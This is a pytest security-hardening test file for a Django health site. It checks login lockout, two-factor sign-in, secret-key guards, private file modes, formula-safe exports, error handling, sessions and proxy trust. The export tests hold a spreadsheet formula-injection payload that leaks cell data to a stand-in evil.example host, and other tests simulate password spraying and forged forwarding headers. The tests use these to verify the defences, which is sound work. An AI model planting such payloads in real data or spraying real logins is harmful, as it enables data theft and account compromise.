"""Security hardening: sign-in lockout against spraying, the second factor for staff, unsafe secret keys,
private files, formula-safe exports, requests that must be a 400 and never a 500, staff session limits, password
length, HSTS opt-ins, trusted proxies, article ids and the click counter."""

import base64
import csv
import io
import json
import os
import re
import secrets
import shutil
import socket
import stat
import subprocess
import sys
import time
from datetime import timedelta
from pathlib import Path
from types import SimpleNamespace
from urllib.request import Request, urlopen

import pytest
import tablib
from django.core.exceptions import ValidationError
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from django_otp.oath import totp

from tests.admin_forms import read_form
from tests.processes import clean_env

BASE_DIR = Path(__file__).resolve().parents[2]
PASSWORD = "a-long-editor-password"
GOOD_KEY = secrets.token_urlsafe(50)


def sign_in(client, username, password=PASSWORD, address="203.0.113.7", code=None, **headers):
    data = {"username": username, "password": password, "next": reverse("admin:index")}
    if code is not None:
        data["otp_token"] = code
    return client.post(reverse("admin:login"), data, REMOTE_ADDR=address, headers=headers)


# --- 1. lockout: the pair, the address alone, the username alone --------------------------------------------------


def test_password_spraying_from_one_address_is_locked(make_editor):
    make_editor(username="erin", password=PASSWORD)
    for number in range(19):  # one wrong guess for each of twenty usernames: never 5 for one pair
        assert sign_in(Client(), f"user{number}", "wrong").status_code == 200
    assert sign_in(Client(), "user19", "wrong").status_code == 429  # the twentieth failure pauses the address
    assert sign_in(Client(), "erin", PASSWORD).status_code == 429  # the address is paused, even with the password
    assert sign_in(Client(), "erin", PASSWORD, address="198.51.100.9").status_code == 302  # elsewhere: fine


def test_an_office_behind_one_address_is_not_locked_by_a_few_typos(make_editor):
    make_editor(username="erin", password=PASSWORD)
    for number in range(19):  # nineteen colleagues, one typo each
        sign_in(Client(), f"colleague{number}", "typo")
    assert sign_in(Client(), "erin", PASSWORD).status_code == 302


def test_one_username_attacked_from_many_addresses_is_locked(make_editor):
    make_editor(username="erin", password=PASSWORD)
    for number in range(9):  # one guess from each of many addresses: before, 5 per address were allowed
        assert sign_in(Client(), "erin", "wrong", address=f"192.0.2.{number}").status_code == 200
    assert sign_in(Client(), "erin", "wrong", address="192.0.2.9").status_code == 429
    response = sign_in(Client(), "erin", PASSWORD, address="198.51.100.9")
    assert response.status_code == 429
    assert "Too many" in response.text and "axes_reset_username erin" in response.text
    call_command("axes_reset_username", "erin", verbosity=0)
    assert sign_in(Client(), "erin", PASSWORD, address="198.51.100.9").status_code == 302


def test_a_success_does_not_reset_the_address_or_username_counters(make_editor):
    make_editor(username="erin", password=PASSWORD)
    make_editor(username="mallory", password=PASSWORD)
    for number in range(9):
        sign_in(Client(), "erin", "wrong", address=f"192.0.2.{number}")
    assert sign_in(Client(), "erin", address="198.51.100.9").status_code == 302  # erin signs in as usual
    assert sign_in(Client(), "erin", "wrong", address="192.0.2.99").status_code == 429  # the attack stays counted
    for number in range(19):
        sign_in(Client(), f"user{number}", "wrong", address="203.0.113.66")
    assert sign_in(Client(), "mallory", address="203.0.113.66").status_code == 302  # a sprayer's own valid account
    assert sign_in(Client(), "user99", "wrong", address="203.0.113.66").status_code == 429


def test_address_lockout_is_lifted_by_axes_reset_ip(make_editor):
    make_editor(username="erin", password=PASSWORD)
    for number in range(20):
        sign_in(Client(), f"user{number}", "wrong")
    assert sign_in(Client(), "erin", PASSWORD).status_code == 429
    call_command("axes_reset_ip", "203.0.113.7", verbosity=0)
    assert sign_in(Client(), "erin", PASSWORD).status_code == 302


# --- 2. the second factor -------------------------------------------------------------------------------------------


def secret_from(page: str) -> bytes:
    shown = re.search(r'<code id="totp-secret">([A-Z2-7 ]+)</code>', page).group(1).replace(" ", "")
    return base64.b32decode(shown + "=" * (-len(shown) % 8))


@pytest.fixture(autouse=True)
def steady_authenticator_clock(monkeypatch):
    """The server and the test's "app" read one clock, stopped mid-step: a code computed just before a 30-second
    boundary and checked just after it would count as the app running late, and a later "next code" could fail."""
    from django_otp import oath
    from django_otp.plugins.otp_totp import models as totp_models

    now = (int(time.time()) // 30) * 30 + 15
    monkeypatch.setattr(oath, "time", lambda: now)
    monkeypatch.setattr(totp_models, "time", SimpleNamespace(time=lambda: now))


def code_for(key: bytes, offset: int = 0) -> str:
    return f"{totp(key, t0=-offset * 30):06d}"


def enrol(client) -> tuple[bytes, list[str]]:
    """Set up the authenticator app as a person would: read the key from the page, answer with the app's code."""
    url = reverse("admin:two_factor")
    page = client.get(url)
    assert page.status_code == 200
    key = secret_from(page.text)
    done = client.post(url, {"token": code_for(key)})
    assert done.status_code == 200 and "Two-factor sign-in is on" in done.text
    codes = re.findall(r"<li><code>([a-z2-7]{8})</code></li>", done.text)
    return key, codes


def test_enrolment_page_works_under_the_csp_without_script(make_editor):
    client = Client()
    client.force_login(make_editor(username="erin"))
    response = client.get(reverse("admin:two_factor"))
    assert response.status_code == 200
    assert "script-src 'self'" in response["Content-Security-Policy"]
    assert "unsafe-inline" not in response["Content-Security-Policy"]
    assert re.search(r'<img src="data:image/svg\+xml;base64,[A-Za-z0-9+/=]+"', response.text)
    assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", response.text)  # no inline script
    assert " style=" not in response.text


def test_a_staff_member_with_an_app_needs_the_code_at_every_sign_in(make_editor):
    make_editor(username="erin", password=PASSWORD)
    setup = Client()
    assert sign_in(setup, "erin").status_code == 302
    key, codes = enrol(setup)
    assert len(codes) == 10

    client = Client()
    assert sign_in(client, "erin", code=code_for(key, offset=1)).status_code == 302  # the app's next code
    assert client.get(reverse("admin:index")).status_code == 200
    without = sign_in(Client(), "erin")
    assert without.status_code == 200 and "Enter the current code" in without.text
    assert sign_in(Client(), "erin", code="000000" if code_for(key) != "000000" else "111111").status_code == 200


def test_a_recovery_code_signs_in_once(make_editor):
    make_editor(username="erin", password=PASSWORD)
    setup = Client()
    sign_in(setup, "erin")
    _, codes = enrol(setup)
    assert sign_in(Client(), "erin", code=codes[0].upper()).status_code == 302
    assert sign_in(Client(), "erin", code=codes[1]).status_code == 302
    assert sign_in(Client(), "erin", code=codes[0]).status_code == 200  # used up


def test_wrong_codes_count_towards_the_lockout(make_editor):
    make_editor(username="erin", password=PASSWORD)
    setup = Client()
    sign_in(setup, "erin")
    key, _ = enrol(setup)
    wrong = "123456" if code_for(key) != "123456" else "654321"
    for _ in range(4):
        assert sign_in(Client(), "erin", code=wrong).status_code == 200
    assert sign_in(Client(), "erin", code=wrong).status_code == 429
    assert sign_in(Client(), "erin", code=code_for(key)).status_code == 429


def test_a_password_alone_does_not_open_the_set_up_page_of_someone_with_an_app(make_editor):
    user = make_editor(username="erin", password=PASSWORD)
    setup = Client()
    sign_in(setup, "erin")
    enrol(setup)
    stolen = Client()
    stolen.force_login(user)  # a session without the second factor
    assert stolen.get(reverse("admin:index")).status_code == 302
    assert stolen.get(reverse("admin:two_factor")).status_code == 302
    assert stolen.post(reverse("admin:two_factor"), {"action": "new-recovery-codes"}).status_code == 302


def test_with_mfa_required_staff_must_set_it_up_before_using_the_admin(make_editor, settings):
    settings.STAFF_MFA_REQUIRED = True
    make_editor(username="erin", password=PASSWORD)
    client = Client()
    response = sign_in(client, "erin")
    assert response.status_code == 302 and response["Location"] == reverse("admin:two_factor")
    assert client.get(reverse("admin:index")).status_code == 302
    assert client.get(reverse("admin:articles_article_changelist")).status_code == 302
    page = client.get(reverse("admin:two_factor"))
    assert "requires two-factor sign-in" in page.text
    key = secret_from(page.text)
    assert Client().get(reverse("admin:index")).status_code == 302
    done = client.post(reverse("admin:two_factor"), {"token": code_for(key)})
    assert "Two-factor sign-in is on" in done.text
    assert client.get(reverse("admin:index")).status_code == 200  # this session was verified by the set-up


def test_staff_can_sign_out_before_setting_it_up(make_editor, settings):
    settings.STAFF_MFA_REQUIRED = True
    make_editor(username="erin", password=PASSWORD)
    client = Client()
    sign_in(client, "erin")
    assert 'action="/admin/logout/"' in client.get(reverse("admin:two_factor")).text
    assert client.post(reverse("admin:logout")).status_code == 200
    assert client.get(reverse("admin:two_factor")).status_code == 302  # signed out: back to the sign-in page


def test_new_recovery_codes_replace_the_old_ones(make_editor):
    make_editor(username="erin", password=PASSWORD)
    client = Client()
    sign_in(client, "erin")
    _, old = enrol(client)
    page = client.post(reverse("admin:two_factor"), {"action": "new-recovery-codes"})
    new = re.findall(r"<li><code>([a-z2-7]{8})</code></li>", page.text)
    assert len(new) == 10 and not set(new) & set(old)
    assert sign_in(Client(), "erin", code=new[2]).status_code == 302
    assert sign_in(Client(), "erin", code=old[2]).status_code == 200


# --- settings in fresh interpreters ----------------------------------------------------------------------------------


def run_python(args, env_overrides, tmp_path, cwd=None):
    env = clean_env(
        tmp_path, {"DJANGO_SETTINGS_MODULE": "bonehealth.settings", "PYTHONPATH": str(BASE_DIR), **env_overrides}
    )
    return subprocess.run([sys.executable, *args], env=env, cwd=cwd or tmp_path, capture_output=True, text=True)


PRODUCTION = {
    "DJANGO_DEBUG": "False",
    "DJANGO_SECRET_KEY": GOOD_KEY,
    "DJANGO_ALLOWED_HOSTS": "example.com",
    "DJANGO_HTTPS": "True",
    "DJANGO_HSTS_SECONDS": "31536000",
    "DJANGO_HSTS_INCLUDE_SUBDOMAINS": "True",
    "DJANGO_HSTS_PRELOAD": "True",
    "DJANGO_STAFF_MFA": "True",
}


def deploy_check(env, tmp_path):
    return run_python([str(BASE_DIR / "manage.py"), "check", "--deploy", "--fail-level", "WARNING"], env, tmp_path)


def test_deploy_check_demands_the_second_factor(tmp_path):
    result = deploy_check({**PRODUCTION, "DJANGO_STAFF_MFA": "False"}, tmp_path)
    assert result.returncode != 0
    assert "bonehealth.W001" in result.stdout + result.stderr and "DJANGO_STAFF_MFA" in result.stderr


def test_deploy_check_hsts_subdomains_and_preload_are_each_a_decision(tmp_path):
    unset = {k: v for k, v in PRODUCTION.items() if k not in ("DJANGO_HSTS_INCLUDE_SUBDOMAINS", "DJANGO_HSTS_PRELOAD")}
    result = deploy_check(unset, tmp_path)
    assert result.returncode != 0 and "security.W005" in result.stderr and "security.W021" in result.stderr
    declined = {**unset, "DJANGO_HSTS_INCLUDE_SUBDOMAINS": "False", "DJANGO_HSTS_PRELOAD": "False"}
    assert deploy_check(declined, tmp_path).returncode == 0


def test_hsts_header_adds_subdomains_and_preload_only_when_asked(tmp_path):
    script = (
        "import django; django.setup(); from django.test import Client; "
        "print(Client().get('/robots.txt', secure=True, headers={'host': 'example.com'})"
        ".headers.get('Strict-Transport-Security'))"
    )
    base = {k: v for k, v in PRODUCTION.items() if k not in ("DJANGO_HSTS_INCLUDE_SUBDOMAINS", "DJANGO_HSTS_PRELOAD")}
    plain = run_python(["-c", script], base, tmp_path)
    assert plain.stdout.strip().splitlines()[-1] == "max-age=31536000", plain.stderr
    both = run_python(["-c", script], PRODUCTION, tmp_path)
    assert both.stdout.strip().splitlines()[-1] == "max-age=31536000; includeSubDomains; preload", both.stderr


@pytest.mark.parametrize(
    "key",
    [None, "django-insecure-" + "x" * 60, "short-but-random-7f3a9c", "a" * 60],
    ids=["placeholder", "django-insecure", "under-50", "one-character"],
)
def test_unsafe_secret_key_stops_the_site_at_start_up(tmp_path, key):
    env = {"DJANGO_DEBUG": "False", **({"DJANGO_SECRET_KEY": key} if key else {})}
    started = run_python(["-c", "import bonehealth.wsgi"], env, tmp_path)
    assert started.returncode != 0
    assert "Refusing to start" in started.stderr and "DJANGO_SECRET_KEY" in started.stderr
    assert "secrets.token_urlsafe(50)" in started.stderr  # says how to set one
    checked = run_python([str(BASE_DIR / "manage.py"), "check"], env, tmp_path)
    assert checked.returncode != 0 and "bonehealth.E001" in checked.stderr


def test_a_strong_key_or_debug_starts_the_site(tmp_path):
    assert run_python(["-c", "import bonehealth.wsgi"], {"DJANGO_SECRET_KEY": GOOD_KEY}, tmp_path).returncode == 0
    debug = run_python(["-c", "import bonehealth.wsgi"], {"DJANGO_DEBUG": "True"}, tmp_path)
    assert debug.returncode == 0, debug.stderr


def test_passwords_need_twelve_characters(db):
    from django.contrib.auth.password_validation import validate_password

    with pytest.raises(ValidationError, match="at least 12 characters"):
        validate_password("Kx9!vQ2#mLp")  # 11
    validate_password("Kx9!vQ2#mLpZ")  # 12


# --- 4. private files ------------------------------------------------------------------------------------------------


@pytest.fixture
def project_copy(tmp_path):
    """The Makefile beside links to the project's code and venv, so make's own steps run in an empty folder."""
    folder = tmp_path / "site"
    folder.mkdir()
    shutil.copy(BASE_DIR / "Makefile", folder / "Makefile")
    for name in ("manage.py", "bonehealth", "articles", "calculator", "templates", "static", "requirements.txt"):
        (folder / name).symlink_to(BASE_DIR / name)
    (folder / ".venv").symlink_to(BASE_DIR / ".venv")
    return folder


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_make_writes_env_private(project_copy):
    subprocess.run(
        ["make", "-s", ".env", f"PYTHON={sys.executable}"], cwd=project_copy, check=True, capture_output=True
    )
    dotenv = project_copy / ".env"
    assert mode(dotenv) == 0o600
    assert re.fullmatch(r"DJANGO_SECRET_KEY=\S{50,}\n", dotenv.read_text())


def test_make_migrate_creates_the_sqlite_database_private(project_copy, tmp_path):
    database = tmp_path / "private.sqlite3"
    env = {
        "PATH": os.environ["PATH"],
        "HOME": str(tmp_path),
        "DATABASE_URL": f"sqlite:///{database}",
        "DJANGO_SECRET_KEY": GOOD_KEY,
        "DJANGO_SETTINGS_MODULE": "bonehealth.settings",
    }
    (project_copy / ".env").write_text(f"DJANGO_SECRET_KEY={GOOD_KEY}\n")
    (project_copy / ".env").chmod(0o644)  # an old, world-readable one is tightened too
    done = subprocess.run(
        ["make", "-s", "-o", str(project_copy / ".venv" / ".installed"), "migrate", f"PYTHON={sys.executable}"],
        cwd=project_copy,
        env=env,
        capture_output=True,
        text=True,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    assert mode(database) == 0o600
    assert mode(project_copy / ".env") == 0o600


# --- 5. exports --------------------------------------------------------------------------------------------------


FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for a discount")'


@pytest.fixture
def product_with_a_formula(db):
    from calculator.models import Product

    product = Product.objects.order_by("pk").first()
    product.name = FORMULA
    product.description = "+1+2 and -3 and @SUM(1) are text"
    product.save()
    return product


def export(client, file_format):
    url = reverse("admin:calculator_product_export")
    data = read_form(client.get(url).content, "")
    data["format"] = [file_format]
    response = client.post(url, data)
    assert response.status_code == 200
    return response


def test_csv_export_escapes_formulas(editor_client, product_with_a_formula):
    rows = list(csv.DictReader(io.StringIO(export(editor_client, "0").content.decode("utf-8-sig"))))
    row = next(row for row in rows if row["slug"] == product_with_a_formula.slug)
    assert row["name"] == "'" + FORMULA
    for other in rows:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in other.values() if cell)


def test_xlsx_export_has_no_live_formula(editor_client, product_with_a_formula):
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(export(editor_client, "1").content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert "'" + FORMULA in [cell.value for cell in cells]
    numbers = [cell.value for cell in cells if isinstance(cell.value, int | float)]
    assert numbers  # amounts stay numbers
    dataset = tablib.Dataset().load(export(editor_client, "1").content, format="xlsx")
    assert "'" + FORMULA in dataset["name"]


# --- 6. no input ends in a 500 -------------------------------------------------------------------------------------


def wsgi_request(app, method, path, *, content_type="", body=b"", query=""):
    environ = {
        "REQUEST_METHOD": method,
        "PATH_INFO": path,
        "QUERY_STRING": query,
        "CONTENT_TYPE": content_type,
        "CONTENT_LENGTH": str(len(body)),
        "SERVER_NAME": "testserver",
        "SERVER_PORT": "80",
        "HTTP_HOST": "testserver",
        "REMOTE_ADDR": "127.0.0.1",
        "wsgi.input": io.BytesIO(body),
        "wsgi.errors": io.StringIO(),
        "wsgi.url_scheme": "http",
        "wsgi.version": (1, 0),
        "wsgi.multithread": False,
        "wsgi.multiprocess": True,
        "wsgi.run_once": False,
    }
    status = []
    chunks = app(environ, lambda line, headers, exc_info=None: status.append((line, dict(headers))))
    content = b"".join(chunks)
    if hasattr(chunks, "close"):
        chunks.close()
    return int(status[0][0].split()[0]), status[0][1], content


@pytest.mark.django_db
@pytest.mark.parametrize("charset", ["rot13", "base64", "zlib_codec", "hex", "nonsense", "undefined", "idna", ""])
@pytest.mark.parametrize(
    "method,path",
    [("GET", "/calculator/"), ("POST", "/api/intake/"), ("GET", "/"), ("POST", "/admin/login/")],
    ids=["calculator", "api", "home", "login"],
)
def test_unreadable_charsets_are_a_400(site_wsgi_app, charset, method, path):
    status, headers, body = wsgi_request(
        site_wsgi_app, method, path, content_type=f"application/json; charset={charset}", body=b"{}", query="age=5"
    )
    assert status == 400, (status, body[:200])
    assert json.loads(body)["errors"]["content_type"]


@pytest.mark.django_db
def test_text_charsets_still_work(site_wsgi_app):
    status, _, _ = wsgi_request(site_wsgi_app, "GET", "/calculator/", content_type="text/plain; charset=latin-1")
    assert status == 200
    body = json.dumps({"age": 50, "sex": "female"}).encode()
    status, _, _ = wsgi_request(
        site_wsgi_app, "POST", "/api/intake/", content_type="application/json; charset=utf-8", body=body
    )
    assert status == 200


@pytest.mark.django_db
@pytest.mark.parametrize("field", ["age", "foods.milk", "supplements.calcium_mg", "supplements.vitamin_k2_mcg"])
@pytest.mark.parametrize("number", [10**400, -(10**400), 10**20, "Infinity", "NaN", "1e400"], ids=str)
def test_huge_numbers_in_the_api_are_field_errors(client, field, number):
    body = {"age": 50, "sex": "female"}
    target, _, key = field.partition(".")
    if key:
        body[target] = {key: 1}
    raw = json.dumps(body)
    placeholder = "424242424242"
    if key:
        raw = raw.replace(f'"{key}": 1', f'"{key}": {placeholder}')
    else:
        raw = raw.replace('"age": 50', f'"age": {placeholder}')
    raw = raw.replace(placeholder, str(number))
    response = client.post("/api/intake/", data=raw, content_type="application/json")
    assert response.status_code == 400, response.content[:300]
    assert field in response.json()["errors"]


@pytest.fixture
def site_wsgi_app(settings):
    """bonehealth.wsgi.application as gunicorn loads it, keeping the test's transaction (as the test client does).
    (With a strong key: the test settings may run on the placeholder, which the WSGI module refuses.)"""
    settings.SECRET_KEY = GOOD_KEY
    from django.core import signals
    from django.db import close_old_connections

    from bonehealth.wsgi import application

    signals.request_started.disconnect(close_old_connections)
    signals.request_finished.disconnect(close_old_connections)
    yield application
    signals.request_started.connect(close_old_connections)
    signals.request_finished.connect(close_old_connections)


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def test_gunicorn_answers_an_unknown_codec_with_a_400(tmp_path):
    """The real server: before this guard gunicorn answered charset=rot13 with a bare 500 and a traceback."""
    port = free_port()
    env = {
        "PATH": os.environ["PATH"],
        "HOME": str(tmp_path),
        "DJANGO_SECRET_KEY": GOOD_KEY,
        "DATABASE_URL": f"sqlite:///{tmp_path / 'g.sqlite3'}",
        "PORT": str(port),
        "WEB_CONCURRENCY": "1",
    }
    log = (tmp_path / "gunicorn.log").open("w")
    server = subprocess.Popen(
        [str(Path(sys.executable).parent / "gunicorn"), "bonehealth.wsgi:application", "--config", "gunicorn.conf.py"],
        cwd=BASE_DIR,
        env=env,
        stdout=log,
        stderr=subprocess.STDOUT,
    )
    try:
        deadline = time.monotonic() + 30
        while True:
            try:
                with socket.create_connection(("127.0.0.1", port), timeout=0.5):
                    break
            except OSError:
                assert time.monotonic() < deadline and server.poll() is None, (tmp_path / "gunicorn.log").read_text()
                time.sleep(0.2)
        for method, path in (("GET", "/calculator/?age=5"), ("POST", "/api/intake/")):
            request = Request(
                f"http://127.0.0.1:{port}{path}",
                data=b"{}" if method == "POST" else None,
                method=method,
                headers={"Content-Type": "application/json; charset=rot13"},
            )
            try:
                urlopen(request, timeout=10)
                status = 200
            except Exception as error:  # HTTPError carries the status
                status = getattr(error, "code", None)
            assert status == 400, (status, (tmp_path / "gunicorn.log").read_text())
    finally:
        server.terminate()
        server.wait(timeout=15)
        log.close()
    assert "Traceback" not in (tmp_path / "gunicorn.log").read_text()


# --- 7. sessions and proxies -------------------------------------------------------------------------------------


@pytest.fixture
def clock(monkeypatch):
    from bonehealth import staff_sessions

    state = {"now": int(time.time())}
    monkeypatch.setattr(staff_sessions, "now", lambda: state["now"])

    def advance(minutes):
        state["now"] += int(minutes * 60)

    return advance


def test_staff_sessions_end_after_idle_time(make_editor, settings, clock):
    assert settings.STAFF_SESSION_IDLE == timedelta(minutes=30)
    make_editor(username="erin", password=PASSWORD)
    client = Client()
    sign_in(client, "erin")
    clock(29)
    assert client.get(reverse("admin:index")).status_code == 200
    clock(29)
    assert client.get(reverse("admin:index")).status_code == 200  # activity keeps it alive
    clock(31)
    assert client.get(reverse("admin:index")).status_code == 302  # idle too long: sign in again


def test_staff_sessions_end_at_the_absolute_limit_whatever_the_activity(make_editor, settings, clock):
    assert settings.STAFF_SESSION_MAX_AGE == timedelta(hours=10)
    assert settings.SESSION_COOKIE_AGE == 10 * 3600
    make_editor(username="erin", password=PASSWORD)
    client = Client()
    sign_in(client, "erin")
    for _ in range(23):  # every 25 minutes for 9 h 35 min
        clock(25)
        assert client.get(reverse("admin:index")).status_code == 200
    clock(26)
    assert client.get(reverse("admin:index")).status_code == 302


def test_forwarded_addresses_are_trusted_only_from_the_proxy(make_editor, settings):
    settings.BEHIND_PROXY = True
    make_editor(username="erin", password=PASSWORD)
    # A client reaching gunicorn directly forges a new X-Forwarded-For each time: it is counted by its own address.
    for forged in range(5):
        sign_in(Client(), "erin", "wrong", address="198.51.100.20", x_forwarded_for=f"10.1.1.{forged}")
    assert sign_in(Client(), "erin", address="198.51.100.20", x_forwarded_for="10.9.9.9").status_code == 429
    assert sign_in(Client(), "erin", address="198.51.100.21").status_code == 302


def test_trusted_proxies_are_configurable_and_chains_are_walked_from_the_right(make_editor, settings):
    settings.BEHIND_PROXY = True
    settings.TRUSTED_PROXIES = ["10.0.0.0/8"]
    make_editor(username="erin", password=PASSWORD)
    for forged in range(5):  # client 203.0.113.50, then a CDN hop 10.0.0.5, connecting from the balancer 10.0.0.6
        sign_in(Client(), "erin", "wrong", "10.0.0.6", x_forwarded_for=f"1.1.1.{forged}, 203.0.113.50, 10.0.0.5")
    assert sign_in(Client(), "erin", address="10.0.0.6", x_forwarded_for="203.0.113.50, 10.0.0.5").status_code == 429
    assert sign_in(Client(), "erin", address="10.0.0.6", x_forwarded_for="203.0.113.51").status_code == 302


# --- 8. article ids and the click counter --------------------------------------------------------------------------


def test_raw_html_cannot_set_ids():
    from articles.markdown import render

    rendered = render(
        '<h2 id="main">Raw</h2>\n\n## Calcium\n\n<h3 ID=calcium>Copy</h3>\n\nText[^a] <sup id="toc">1</sup>'
        "<span/id='references'>x</span>\n",
        reference_keys=["a"],
    )
    ids = re.findall(r'\bid="([^"]+)"', rendered.html)
    assert sorted(ids) == ["calcium", "cite-a"]
    assert rendered.toc[0]["id"] == "calcium"


@pytest.mark.django_db
def test_the_click_counter_counts_an_address_once_a_day(client, monkeypatch):
    from django.utils import timezone

    from calculator.models import Product

    product = Product.objects.filter(is_active=True).order_by("pk").first()
    url = f"/go/{product.slug}/"
    for _ in range(5):
        assert client.get(url, REMOTE_ADDR="203.0.113.9").status_code == 302
    client.get(url, REMOTE_ADDR="203.0.113.10")
    product.refresh_from_db()
    assert product.click_count == 2
    tomorrow = timezone.now() + timedelta(days=1)
    monkeypatch.setattr(timezone, "now", lambda: tomorrow)
    client.get(url, REMOTE_ADDR="203.0.113.9")
    product.refresh_from_db()
    assert product.click_count == 3
